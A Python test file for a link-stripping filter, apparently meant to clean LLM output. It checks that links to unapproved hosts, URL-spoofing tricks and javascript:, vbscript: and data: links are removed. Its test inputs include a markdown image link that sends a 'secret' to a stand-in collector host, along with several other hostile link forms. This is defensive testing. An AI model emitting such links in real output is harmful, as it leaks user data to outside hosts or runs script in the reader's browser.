import pytest

from shared.llm.links import hosts_in, without_links

KNOWN = frozenset({"app.contoso.com"})


@pytest.mark.parametrize(
    "text",
    [
        "![s](https://collector.example/p.png?d=secret)",
        "see HTTPS://collector.example",
        "https://app.contoso.com@collector.example/x",
        "https://app.contoso.com.collector.example/",
        "https:\\\\collector.example\\x",
        "https:/collector.example",
        "ftp://collector.example/a.exe",
    ],
)
def test_given_a_link_to_a_host_that_nobody_named_when_read_then_nothing_of_it_is_left(text: str) -> None:
    assert "collector.example" not in without_links(text, KNOWN)


def test_given_a_link_to_a_host_of_the_evidence_when_read_then_only_the_host_is_left() -> None:
    text = "Open https://user:pw@App.Contoso.com:8443/api?token=secret now"
    assert without_links(text, KNOWN) == "Open app.contoso.com now"


@pytest.mark.parametrize("text", ["[x](javascript:alert(1))", "vbscript:msgbox", "data:text/html;base64,PHN2Zz4="])
def test_given_an_active_link_when_read_then_it_is_removed(text: str) -> None:
    assert "[link removed]" in without_links(text, KNOWN)


@pytest.mark.parametrize(
    "text",
    [
        r"Look into C:\Windows\System32\winevt and \\fs01\share",
        "Run nslookup autodiscover.contoso.com 10.0.0.53",
        r"Get-Item HKLM:\SOFTWARE\Policies",
        "Check the data: is it complete? Time 10:15, ratio 3:1",
    ],
)
def test_given_text_without_links_when_read_then_it_is_unchanged(text: str) -> None:
    assert without_links(text, KNOWN) == text


def test_given_evidence_when_its_links_are_read_then_their_hosts_are_known() -> None:
    assert hosts_in(["at https://App.contoso.com:8443/x", "and ldap://dc01.contoso.local"]) == {
        "app.contoso.com",
        "dc01.contoso.local",
    }
